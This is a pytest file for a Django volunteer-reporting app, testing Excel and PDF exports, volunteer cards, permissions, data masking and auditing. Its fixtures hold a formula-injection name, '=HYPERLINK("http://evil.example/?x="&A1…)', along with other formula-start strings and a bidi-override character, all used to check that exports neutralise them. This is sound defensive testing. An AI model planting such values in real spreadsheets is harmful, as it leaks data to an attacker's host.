"""The reports, their Excel and PDF files, and the volunteer card: sums that add up on a
small season whose every figure is known, personal data masked for those who may not see
it, formulas defused, every export audited, and a fixed number of queries per page."""

import io
import shutil
import subprocess
import time
import zipfile
from datetime import date, timedelta

import pytest
import segno
from django.conf import settings
from django.contrib.auth import get_user_model
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from hamafza.core import permissions
from hamafza.core.models import AuditEntry
from hamafza.mawkib import card, exports, reports
from hamafza.mawkib.models import (
    ApplicationStatus,
    Assignment,
    AssignmentStatus,
    Gender,
    Mawkib,
    MawkibKind,
    Season,
    ServiceLog,
    Staffing,
)
from hamafza.mawkib.services import roster
from hamafza.network.models import Membership, Role

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ARTIFACTS = settings.VAR_DIR / "test-artifacts"


def _serve(assignment, *, hours_in=None, out_after=None, status=AssignmentStatus.CHECKED_OUT):
    """Mark a place as served: checked in at the shift's start (plus `hours_in`), and out
    `out_after` hours after that (None: never checked out)."""
    checked_in = assignment.shift.starts_at + timedelta(hours=hours_in or 0)
    Assignment.objects.filter(pk=assignment.pk).update(
        status=status,
        checked_in_at=checked_in,
        checked_out_at=checked_in + timedelta(hours=out_after) if out_after is not None else None,
    )


@pytest.fixture
def served(
    admin_user,
    season,
    shifts,
    shift_days,
    mawkibs,
    roles,
    make_application,
    demand_for,
    agency,
    other_agency,
):
    """A season whose figures are all known:

    - Ali (agency, man): Mirjaveh day 1 morning in 5.5 h; day 2 morning checked in, never
      out (the 6 h shift counts): 11.5 h over 2 shifts.
    - Zahra (agency, woman): Mirjaveh day 1 morning, 6 h.
    - EVIL_NAME (the public, man): Rimdan day 1 evening, 6 h.
    - Other-agency man: assigned at Imam Reza, never came (no hours).
    - A pending applicant of the public (no place).
    Service logs: Mirjaveh day 1 morning and evening, Mirjaveh day 2 (no shift), Rimdan
    day 1. Season 1448 had Mirjaveh with 120 pilgrims.
    """
    ali = make_application(season, 0, organisation=agency, first_name="علی", last_name="ریگی")
    zahra = make_application(
        season, 1, gender=Gender.WOMEN, organisation=agency, first_name="زهرا", last_name="نارویی"
    )
    evil = make_application(season, 2, first_name=EVIL_NAME, last_name="+SUM(1,2)")
    absent = make_application(season, 3, organisation=other_agency, first_name="غایب")
    make_application(season, 4, status=ApplicationStatus.PENDING, first_name="منتظر")

    def place(application, mawkib, role, gender, day=0, shift="صبح"):
        demand = demand_for(mawkibs[mawkib], roles[role], gender, day, shift)
        return roster.shift_assign(actor=admin_user, application=application, demand_id=demand.pk)

    _serve(place(ali, "mirjaveh", "serving", Staffing.MEN), out_after=5.5)
    _serve(
        place(ali, "mirjaveh", "serving", Staffing.MEN, day=1),
        hours_in=0.2,
        status=AssignmentStatus.CHECKED_IN,
    )
    _serve(place(zahra, "mirjaveh", "serving", Staffing.WOMEN), out_after=6)
    _serve(place(evil, "rimdan", "serving", Staffing.MEN, shift="عصر"), out_after=6)
    Assignment.objects.filter(pk=place(absent, "imam-reza", "serving", Staffing.MEN).pk).update(
        status=AssignmentStatus.NO_SHOW
    )

    days = shift_days
    morning, evening = (
        mawkibs["mirjaveh"].shifts.filter(name=name).order_by("starts_at").first()
        for name in ("صبح", "عصر")
    )
    log = dict(recorded_by=admin_user)
    ServiceLog.objects.create(
        mawkib=mawkibs["mirjaveh"],
        shift=morning,
        day=days[0],
        pilgrims_men=100,
        pilgrims_women=80,
        meals=150,
        tea_water=300,
        first_aid_visits=5,
        **log,
    )
    ServiceLog.objects.create(
        mawkib=mawkibs["mirjaveh"],
        shift=evening,
        day=days[0],
        pilgrims_men=50,
        pilgrims_women=20,
        meals=60,
        tea_water=100,
        first_aid_visits=1,
        lodging_nights=40,
        **log,
    )
    ServiceLog.objects.create(
        mawkib=mawkibs["mirjaveh"],
        day=days[1],
        pilgrims_men=10,
        pilgrims_women=5,
        meals=15,
        tea_water=20,
        **log,
    )
    ServiceLog.objects.create(
        mawkib=mawkibs["rimdan"],
        day=days[0],
        pilgrims_men=30,
        pilgrims_women=30,
        meals=60,
        tea_water=90,
        lodging_nights=12,
        **log,
    )

    before = Season.objects.create(
        hijri_year=1448,
        title="اربعین ۱۴۴۸",
        signup_opens_at=season.signup_opens_at - timedelta(days=354),
        signup_closes_at=season.signup_closes_at - timedelta(days=354),
        edit_deadline=season.edit_deadline - timedelta(days=354),
    )
    old = Mawkib.objects.create(
        season=before,
        site_key="mirjaveh",
        name="موکب میرجاوه (قدیم)",
        kind=MawkibKind.BORDER,
        county=mawkibs["mirjaveh"].county,
    )
    ServiceLog.objects.create(
        mawkib=old,
        day=days[0] - timedelta(days=354),
        pilgrims_men=70,
        pilgrims_women=50,
        meals=100,
        **log,
    )
    return {"season": season, "before": before, "days": days, "ali": ali, "evil": evil}


# --- aggregation ---------------------------------------------------------------------------


def test_service_totals_sum_per_mawkib_and_day(served):
    rows = reports.service_totals(served["season"])
    by = {(r["mawkib__name"], r["day"]): r for r in rows}
    day1, day2, _day3 = served["days"]
    mirjaveh = by["موکب مرز میرجاوه", day1]
    assert (mirjaveh["pilgrims_men"], mirjaveh["pilgrims_women"]) == (150, 100)
    assert (mirjaveh["meals"], mirjaveh["tea_water"]) == (210, 400)
    assert (mirjaveh["first_aid_visits"], mirjaveh["lodging_nights"]) == (6, 40)
    assert by["موکب مرز میرجاوه", day2]["pilgrims_men"] == 10
    assert by["موکب مرز ریمدان", day1]["lodging_nights"] == 12
    assert len(rows) == 3  # the earlier season's log is not this season's

    report = reports.service_report(served["season"])
    assert report.tables[0].totals["pilgrims_men"] == 190
    per_mawkib = {r["mawkib"]: r for r in report.tables[1].rows}
    assert per_mawkib["موکب مرز میرجاوه"]["days"] == 2
    assert per_mawkib["موکب مرز میرجاوه"]["meals"] == 225


def test_hours_are_out_minus_in_or_the_shift_length_when_never_checked_out(served):
    rows = {r["name"]: r for r in reports.volunteer_hours(served["season"], personal=True)}
    assert rows["علی ریگی"]["hours"] == 11.5  # 5.5 + a 6 h shift never checked out
    assert rows["علی ریگی"]["shifts"] == 2
    assert rows["زهرا نارویی"]["hours"] == 6
    assert rows[f"{EVIL_NAME} +SUM(1,2)"]["agency"] == "مردمی"
    assert "غایب داوطلب" not in rows  # a no-show serves no hours
    assert next(iter(rows)) == "علی ریگی"  # most hours first
    assert rows["علی ریگی"]["national_code"] == "0013542419"


def test_served_hours_never_go_negative():
    now = timezone.now()
    assert reports.served_hours(now, now - timedelta(hours=1), 6) == 0
    assert reports.served_hours(now, None, 6) == 6


def test_agencies_count_their_people_and_hours_and_the_public_comes_last(served):
    rows = reports.agency_participation(served["season"])
    by = {r["agency"]: r for r in rows}
    assert (by["اداره کل بهزیستی"]["applied"], by["اداره کل بهزیستی"]["served"]) == (2, 2)
    assert by["اداره کل بهزیستی"]["hours"] == 17.5
    assert (by["اداره کل تأمین اجتماعی"]["served"], by["اداره کل تأمین اجتماعی"]["hours"]) == (0, 0)
    public = rows[-1]
    assert public["is_public"] and public["agency"] == "مردمی (بدون دستگاه)"
    assert (public["applied"], public["approved"], public["served"], public["hours"]) == (
        2,
        1,
        1,
        6,
    )


def test_seasons_side_by_side_follow_the_same_place_by_its_site_key(served):
    report = reports.seasons_report(served["season"])
    totals, per_site = report.tables
    assert [r["year"] for r in totals.rows] == [1448, 1449]
    assert totals.rows[0]["pilgrims_men"] == 70 and totals.rows[0]["volunteers"] == 0
    assert totals.rows[1]["pilgrims_men"] == 190 and totals.rows[1]["volunteers"] == 3
    assert totals.rows[1]["hours"] == 23.5
    sites = {r["site"]: r for r in per_site.rows}
    old_key, new_key = f"s{served['before'].pk}", f"s{served['season'].pk}"
    # The place takes its newest name; its pilgrims are counted in both seasons.
    assert sites["موکب مرز میرجاوه"][old_key] == 120
    assert sites["موکب مرز میرجاوه"][new_key] == 265
    assert sites["موکب مرز ریمدان"][old_key] == 0
    assert report.charts[0].series[0][0] == "اربعین ۱۴۴۸"


def test_an_earlier_season_compares_only_with_seasons_before_it(served):
    report = reports.seasons_report(served["before"])
    assert [r["year"] for r in report.tables[0].rows] == [1448]


# --- Excel -----------------------------------------------------------------------------------


def _book(content: bytes):
    return load_workbook(io.BytesIO(content))


def test_excel_defuses_formulas_and_keeps_numbers_and_dates(served):
    report = reports.volunteers_report(served["season"], personal=True)
    content = exports.report_xlsx(report)
    sheet = _book(content).worksheets[0]
    assert sheet.sheet_view.rightToLeft
    headers = [c.value for c in sheet[1]]
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    names = [row[headers.index("نام")] for row in values]
    evil = next(n for n in names if "HYPERLINK" in n)
    assert evil == "'" + EVIL_NAME + " +SUM(1,2)"
    hours = [row[headers.index("ساعت خدمت")] for row in values]
    assert hours[:3] == [11.5, 6, 6] and isinstance(hours[0], float)
    codes = [row[headers.index("کد ملی")] for row in values]
    assert "0013542419" in codes  # a text with its leading zero, not a number
    # No cell anywhere is stored as a formula.
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = "".join(
            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")
        )
    assert "<f>" not in xml and "<f " not in xml


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_gets_an_apostrophe(text):
    assert exports.excel_text(text) == "'" + text
    assert exports.excel_text("علی=") == "علی="


def test_excel_dates_are_jalali_text_beside_an_iso_date(served):
    content = exports.report_xlsx(reports.service_report(served["season"]))
    sheet = _book(content).worksheets[0]
    headers = [c.value for c in sheet[1]]
    assert headers[:3] == ["موکب", "روز (شمسی)", "روز (ISO)"]
    jalali, iso = sheet.cell(row=2, column=2).value, sheet.cell(row=2, column=3).value
    assert iso.date() == served["days"][0]
    assert jalali.count("/") == 2 and jalali.startswith("14")
    mirjaveh = next(r for r in sheet.iter_rows(min_row=2, values_only=True) if "میرجاوه" in r[0])
    assert mirjaveh[3] == 150  # a number
    totals_row = [c.value for c in sheet[sheet.max_row]]
    assert totals_row[0] == "جمع" and totals_row[3] == 190


# --- PDF -----------------------------------------------------------------------------------


def _pdf_text(content: bytes, tmp_path) -> str | None:
    if not shutil.which("pdftotext"):
        return None
    path = tmp_path / "out.pdf"
    path.write_bytes(content)
    return subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout


def _save_artifact(content: bytes, name: str) -> None:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    (ARTIFACTS / name).write_bytes(content)
    if shutil.which("pdftoppm") and name.endswith(".pdf"):
        stem = str(ARTIFACTS / name.removesuffix(".pdf"))
        subprocess.run(
            [
                "pdftoppm",
                "-png",
                "-r",
                "80",
                "-f",
                "1",
                "-l",
                "1",
                "-singlefile",
                str(ARTIFACTS / name),
                stem,
            ],
            check=True,
        )


@pytest.mark.slow
def test_report_pdf_is_a_persian_pdf_with_its_chart(served, tmp_path):
    report = reports.service_report(served["season"])
    html = exports.report_html_for_pdf(report)
    assert "bars-chart" in html and 'dir="rtl"' in html
    content = exports.report_pdf(report)
    assert content.startswith(b"%PDF")
    _save_artifact(content, "mawkib-report-service.pdf")
    text = _pdf_text(content, tmp_path)
    if text is not None:
        assert "۱۹۰" in text  # the men's total, in Persian digits
        assert "میرجاوه" in text  # Persian text, extracted back in its logical order


@pytest.mark.slow
def test_a_masked_volunteers_pdf_holds_no_national_code(served, tmp_path):
    content = exports.report_pdf(reports.volunteers_report(served["season"], personal=False))
    _save_artifact(content, "mawkib-report-volunteers.pdf")
    text = _pdf_text(content, tmp_path)
    if text is not None:
        assert "۰۰۱۳۵۴۲۴۱۹" not in text and "۴۱۹" in text
        assert "پوشانده" in text


# --- the card --------------------------------------------------------------------------------


def test_the_qr_holds_the_checkin_address_of_the_next_shift(served):
    ali = served["ali"]
    places = card.card_assignments(ali)
    assert len(places) == 2
    payload = card.card_qr_payload(ali, places, base_url="https://hamafza.example/")
    mirjaveh = places[0].shift.mawkib_id
    assert payload == f"https://hamafza.example/mawkib/checkin/{mirjaveh}/?code={ali.tracking_code}"


def test_without_a_shift_the_qr_holds_just_the_tracking_code(season, make_application):
    person = make_application(season, 5)
    assert card.card_qr_payload(person, []) == person.tracking_code
    html = card.card_html(person)
    # The very QR code segno draws for the tracking code is on the card.
    expected = card.qr_svg(person.tracking_code)
    assert expected in html
    assert segno.make(person.tracking_code, error="m").designator


@pytest.mark.slow
def test_card_pdf_shows_name_shifts_and_the_qr(served, tmp_path):
    ali = served["ali"]
    html = card.card_html(ali, base_url="http://testserver")
    assert (
        card.qr_svg(
            card.card_qr_payload(ali, card.card_assignments(ali), base_url="http://testserver")
        )
        in html
    )
    content = card.card_pdf(ali, base_url="http://testserver")
    assert content.startswith(b"%PDF")
    _save_artifact(content, "mawkib-card.pdf")
    text = _pdf_text(content, tmp_path)
    if text is None:
        assert len(content) > 5_000
    else:
        assert ali.tracking_code in text.replace(" ", "") or _fa(ali.tracking_code) in text
        assert f"/mawkib/checkin/{card.card_assignments(ali)[0].shift.mawkib_id}/" in text


def _fa(digits: str) -> str:
    from hamafza.persian.digits import to_persian_digits

    return to_persian_digits(digits)


# --- views: permissions, privacy, audit, queries ------------------------------------------


def _url(name, fmt="", season=None):
    base = f"/mawkib/reports/{name}{'.' + fmt if fmt else '/'}"
    return base + (f"?season={season.pk}" if season else "")


@pytest.mark.parametrize("name", ["service", "volunteers", "agencies", "seasons"])
def test_a_coordinator_reads_every_report_page(served, coordinator, login, name):
    response = login(coordinator).get(_url(name))
    assert response.status_code == 200
    body = response.content.decode()
    assert "<svg" in body  # the chart, drawn on the server
    assert "اربعین ۱۴۴۹" in body


def test_the_volunteers_page_says_how_hours_are_counted_and_shows_codes_to_coordinators(
    served, coordinator, login
):
    body = login(coordinator).get(_url("volunteers")).content.decode()
    assert "طول همان نوبت" in body
    assert "۰۰۱۳۵۴۲۴۱۹" in body
    assert "=HYPERLINK" in body.replace("&quot;", '"')  # shown as text on the page, escaped


@pytest.mark.parametrize("user", ["outsider", "member", "owner"])
def test_people_without_the_reports_permission_are_refused(served, login, request, user):
    client = login(request.getfixturevalue(user))
    assert client.get("/mawkib/reports/").status_code == 403
    assert client.get(_url("service")).status_code == 403
    assert client.get(_url("volunteers", "xlsx")).status_code == 403
    assert not AuditEntry.objects.filter(action__startswith="mawkib.export").exists()


def test_anonymous_visitors_are_sent_to_sign_in(served, client):
    response = client.get(_url("service", "pdf"))
    assert response.status_code == 302 and "/login/" in response["Location"]


def test_an_unknown_report_or_season_is_not_found(served, coordinator, login):
    client = login(coordinator)
    assert client.get(_url("nothing")).status_code == 404
    assert client.get("/mawkib/reports/service/?season=99999").status_code == 404
    assert client.get("/mawkib/reports/service/?season=x").status_code == 404


def test_an_export_is_audited_with_who_and_what(served, coordinator, login):
    response = login(coordinator).get(_url("volunteers", "xlsx", served["season"]))
    assert response.status_code == 200
    assert response["Content-Type"] == exports.XLSX
    assert 'attachment; filename="mawkib-volunteers-1449.xlsx"' == response["Content-Disposition"]
    entry = AuditEntry.objects.get(action="mawkib.export.volunteers")
    assert entry.actor == coordinator
    assert entry.target_id == str(served["season"].pk)
    assert entry.data == {"format": "xlsx", "rows": 3, "personal_data": True}
    names = [c.value for c in _book(response.content).worksheets[0]["B"]]
    assert "0013542419" in names  # the coordinator sees the national code


@pytest.fixture
def reader_without_personal_data(monkeypatch, served, owner):
    """A reports reader who may not see personal data. No such role exists today (the
    coordinators hold both), so the policy is narrowed for this test: the exports must
    follow `mawkib.view_personal_data`, not assume it from `mawkib.reports`."""
    rules = dict(permissions._rules)
    rules["mawkib.reports"] = lambda user, _obj=None: user == owner
    rules["mawkib.view_personal_data"] = lambda user, _obj=None: False
    monkeypatch.setattr(permissions, "_rules", rules)
    return owner


def test_a_reader_without_personal_data_gets_masked_codes_and_mobiles(
    reader_without_personal_data, login
):
    client = login(reader_without_personal_data)
    response = client.get(_url("volunteers", "xlsx"))
    assert response.status_code == 200
    content = response.content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        everything = "".join(archive.read(n).decode() for n in archive.namelist())
    assert "0013542419" not in everything and "09120000000" not in everything
    sheet = _book(content).worksheets[0]
    headers = [c.value for c in sheet[1]]
    codes = [r[headers.index("کد ملی")].value for r in sheet.iter_rows(min_row=2, max_row=4)]
    assert "***419" in codes
    mobiles = [r[headers.index("تلفن همراه")].value for r in sheet.iter_rows(min_row=2, max_row=4)]
    assert "0912***0000" in mobiles
    entry = AuditEntry.objects.get(action="mawkib.export.volunteers")
    assert entry.data["personal_data"] is False
    page = client.get(_url("volunteers")).content.decode()
    assert "۰۰۱۳۵۴۲۴۱۹" not in page and "پوشانده" in page


@pytest.mark.slow
def test_a_pdf_export_downloads_and_is_audited(served, admin_user, login):
    response = login(admin_user).get(_url("agencies", "pdf"))
    assert response.status_code == 200
    assert response.content.startswith(b"%PDF")
    assert AuditEntry.objects.filter(action="mawkib.export.agencies", actor=admin_user).exists()


def _count_queries(client, url) -> int:
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    return len(queries)


@pytest.mark.parametrize("name", ["service", "volunteers", "agencies", "seasons"])
def test_report_pages_take_the_same_queries_however_many_rows(
    served, coordinator, login, make_application, admin_user, demand_for, mawkibs, roles, name
):
    client = login(coordinator)
    url = _url(name, season=served["season"])
    client.get(url)  # the first request of a session does its own one-off work
    before = _count_queries(client, url)
    # Two more people served, and one more log: the page must not query per row.
    season = served["season"]
    for index in (5,):
        person = make_application(season, index, gender=Gender.WOMEN)
        demand = demand_for(mawkibs["rimdan"], roles["serving"], Staffing.WOMEN)
        _serve(
            roster.shift_assign(actor=admin_user, application=person, demand_id=demand.pk),
            out_after=3,
        )
    ServiceLog.objects.create(mawkib=mawkibs["imam-reza"], day=date.today(), pilgrims_men=9)
    assert _count_queries(client, url) == before
    assert before <= 14


def test_report_downloads_take_a_fixed_number_of_queries(served, coordinator, login):
    client = login(coordinator)
    assert _count_queries(client, _url("seasons", "xlsx")) <= 14


# --- the card views ----------------------------------------------------------------------------


def test_a_coordinator_prints_any_volunteers_card_and_it_is_audited(served, coordinator, login):
    ali = served["ali"]
    response = login(coordinator).get(f"/mawkib/applications/{ali.pk}/card.pdf")
    assert response.status_code == 200
    assert response.content.startswith(b"%PDF")
    entry = AuditEntry.objects.get(action="mawkib.export.card")
    assert entry.actor == coordinator and entry.target_id == str(ali.pk)


@pytest.mark.parametrize("user", ["outsider", "owner"])
def test_others_cannot_find_a_card(served, login, request, user):
    client = login(request.getfixturevalue(user))
    assert client.get(f"/mawkib/applications/{served['ali'].pk}/card.pdf").status_code == 404
    assert client.get("/mawkib/applications/99999/card.pdf").status_code == 404


def test_the_volunteer_prints_their_own_card_from_the_session(served, client):
    _verified(client, served["ali"].pk)
    response = client.get("/mawkib/volunteer/card.pdf")
    assert response.status_code == 200 and response.content.startswith(b"%PDF")
    assert response["Content-Disposition"].startswith("inline;")
    entry = AuditEntry.objects.get(action="mawkib.export.card")
    assert entry.actor is None and entry.data == {"by": "volunteer"}


def _verified(client, application_id, *, seconds_left=600):
    """What the public pages keep once an applicant proved their mobile."""
    session = client.session
    session["mawkib_application_id"] = application_id
    session["mawkib_application_id_until"] = time.time() + seconds_left
    session.save()


@pytest.mark.parametrize("stored", [None, "expired", "pending", "unknown"])
def test_no_card_without_a_verified_approved_application_in_the_session(
    served, client, season, make_application, stored
):
    if stored == "expired":
        _verified(client, served["ali"].pk, seconds_left=-1)
    elif stored == "pending":
        _verified(client, make_application(season, 5, status=ApplicationStatus.PENDING).pk)
    elif stored == "unknown":
        _verified(client, 999_999)
    assert client.get("/mawkib/volunteer/card.pdf").status_code == 404
    assert not AuditEntry.objects.filter(action="mawkib.export.card").exists()


def test_a_coordinator_named_by_an_agency_does_not_read_everyones_data(served, agency, login):
    """Only the hub's coordinators run the season: an agency cannot give its own people
    the right to read every volunteer's national code and mobile."""
    user = get_user_model().objects.create_user("agency-coordinator", password="x" * 20)
    Membership.objects.create(user=user, organisation=agency, role=Role.VOLUNTEER_COORDINATOR)
    assert login(user).get("/mawkib/reports/").status_code == 403


def test_before_any_season_the_pages_say_so_and_nothing_downloads(coordinator, login):
    client = login(coordinator)
    assert "هنوز فصلی ساخته نشده است" in client.get("/mawkib/reports/").content.decode()
    assert "هنوز فصلی ساخته نشده است" in client.get(_url("service")).content.decode()
    assert client.get(_url("service", "xlsx")).status_code == 404


# --- names isolated where shown, and never turning a row ------------------------------------

RLO = "\u202e"


def test_a_name_stored_with_a_bidi_override_cannot_turn_an_exported_row(served):
    from hamafza.mawkib.models import Application
    from hamafza.persian.typed import BIDI_CONTROLS

    # a row from before names were cleaned on input (update() skips the cleaning)
    Application.objects.filter(season=served["season"]).update(last_name=f"{RLO}رضایی")
    report = reports.volunteers_report(served["season"], personal=True)
    sheet = _book(exports.report_xlsx(report)).worksheets[0]
    cells = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]

    assert any("رضایی" in cell for cell in cells)
    assert not any(set(cell) & set(BIDI_CONTROLS) for cell in cells)


def test_report_pages_isolate_each_name(served, coordinator, login):
    body = login(coordinator).get(_url("volunteers")).content.decode()
    assert "<bdi>علی" in body  # a typed name can't reorder the cells beside it
